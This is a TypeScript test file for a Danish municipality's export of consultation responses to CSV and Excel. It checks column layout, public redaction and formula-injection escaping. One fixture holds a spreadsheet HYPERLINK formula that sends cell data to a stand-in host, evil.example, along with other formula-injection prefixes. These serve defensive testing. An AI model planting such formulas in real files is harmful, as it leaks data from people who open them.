import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { writeResponsesCsv, writeResponsesXlsx, type ResponseRow, type ResponseTable } from './responses-table';

const labels: ResponseTable['labels'] = {
  organisation: 'Organisation',
  type: 'Type',
  code: 'Forslag',
  title: 'Titel',
  stance: 'Holdning',
  comment: 'Bemærkning',
  confidential: 'Ikke til offentliggørelse',
  submittedAt: 'Indsendt',
  receiptNumber: 'Kvitteringsnummer',
  yes: 'Ja',
  no: 'Nej',
  hidden: 'Udeladt af forvaltningen.',
};

// More rows than one chunk, so that the chunked writing is exercised.
const rows: ResponseRow[] = Array.from({ length: 1203 }, (_, i) => ({
  organisation: `Skolebestyrelsen; Ø-skole ${i}`,
  organisationType: 'Skolebestyrelse',
  code: `BU${i % 31}`,
  title: 'Færre "pædagoger"',
  stance: i % 2 ? 'Støtter' : 'Støtter ikke',
  comment: i === 7 ? null : `Linje 1\nLinje 2 for svar ${i}`,
  confidential: i === 9,
  submittedAt: '27. november 2026 kl. 14.03',
  receiptNumber: `BH-${i}`,
}));

const fullHeader = ['Organisation', 'Type', 'Forslag', 'Titel', 'Holdning', 'Bemærkning', 'Ikke til offentliggørelse', 'Indsendt', 'Kvitteringsnummer'];
const publicHeader = ['Organisation', 'Type', 'Forslag', 'Titel', 'Holdning', 'Bemærkning', 'Indsendt'];

describe('writeResponsesCsv', () => {
  it('writes one row per answer with the full audience columns, readable by Danish Excel', async () => {
    const text = await writeResponsesCsv({ issuer: 'Æbeltoft Kommune', full: true, rows, labels });
    expect(text.startsWith('\uFEFF')).toBe(true);
    const parsed: string[][] = parse(text.slice(1), { delimiter: ';' });
    expect(parsed[0]).toEqual(fullHeader);
    expect(parsed).toHaveLength(rows.length + 1);
    expect(parsed[1]).toEqual(['Skolebestyrelsen; Ø-skole 0', 'Skolebestyrelse', 'BU0', 'Færre "pædagoger"', 'Støtter ikke', 'Linje 1\nLinje 2 for svar 0', 'Nej', '27. november 2026 kl. 14.03', 'BH-0']);
    expect(parsed[8]![5]).toBe('Udeladt af forvaltningen.');
    expect(parsed[10]![6]).toBe('Ja');
    expect(parsed[1203]![8]).toBe('BH-1202');
  });

  it('leaves out the confidential flag and receipt number for the public', async () => {
    const parsed: string[][] = parse((await writeResponsesCsv({ issuer: 'Æbeltoft Kommune', full: false, rows, labels })).slice(1), { delimiter: ';' });
    expect(parsed[0]).toEqual(publicHeader);
    expect(parsed.every((row) => row.length === publicHeader.length)).toBe(true);
    expect(parsed.flat().some((cell) => cell.startsWith('BH-'))).toBe(false);
  });
});

// Comments are typed by anyone who answers; a spreadsheet must show them, never run them.
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1;"Se bilag")';
const hostile: ResponseRow[] = [HYPERLINK, '+1+1', '-600', '@SUM(A1)', '\t=1', '\r=1'].map((comment, i) => ({ ...rows[0]!, organisation: `=Råd ${i}`, comment }));

describe('formulas in the CSV', () => {
  it('are written as quoted text with a leading apostrophe, every other cell unchanged', async () => {
    const text = await writeResponsesCsv({ issuer: 'Æbeltoft Kommune', full: true, rows: hostile, labels });
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1;""Se bilag"")"`);
    const parsed: string[][] = parse(text.slice(1), { delimiter: ';' });
    expect(parsed.slice(1).map((row) => row[5])).toEqual(hostile.map((row) => `'${row.comment}`));
    expect(parsed.slice(1).map((row) => row[0])).toEqual(hostile.map((row) => `'${row.organisation}`));
    expect(parsed[1]!.slice(6)).toEqual(['Nej', '27. november 2026 kl. 14.03', 'BH-0']);
  });
});

describe('writeResponsesXlsx', () => {
  it('keeps a comment that looks like a formula a text cell', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await writeResponsesXlsx({ issuer: 'Æbeltoft Kommune', full: true, rows: hostile, labels }, 'Høringssvar')) as unknown as ExcelJS.Buffer);
    const cell = workbook.worksheets[0]!.getRow(2).getCell(6);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(HYPERLINK);
    expect(cell.formula).toBeUndefined();
  });

  it('writes the same rows to a worksheet', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await writeResponsesXlsx({ issuer: 'Æbeltoft Kommune', full: true, rows, labels }, 'Høringssvar')) as unknown as ExcelJS.Buffer);
    const sheet = workbook.getWorksheet('Høringssvar')!;
    expect(sheet.rowCount).toBe(rows.length + 1);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getRow(1).getCell(1).font).toMatchObject({ bold: true });
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(fullHeader);
    expect(sheet.getRow(2).getCell(6).value).toBe('Linje 1\nLinje 2 for svar 0');
    expect(sheet.getRow(9).getCell(6).value).toBe('Udeladt af forvaltningen.');
    expect(sheet.getRow(rows.length + 1).getCell(9).value).toBe('BH-1202');
    // The municipality is named in the file's properties, not in a row that would break the table.
    expect(workbook.creator).toBe('Æbeltoft Kommune');
  });

  it('has no confidential or receipt columns for the public', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await writeResponsesXlsx({ issuer: 'Æbeltoft Kommune', full: false, rows, labels }, 'Høringssvar')) as unknown as ExcelJS.Buffer);
    expect((workbook.worksheets[0]!.getRow(1).values as unknown[]).slice(1)).toEqual(publicHeader);
    expect(workbook.worksheets[0]!.getRow(2).cellCount).toBe(publicHeader.length);
  });
});
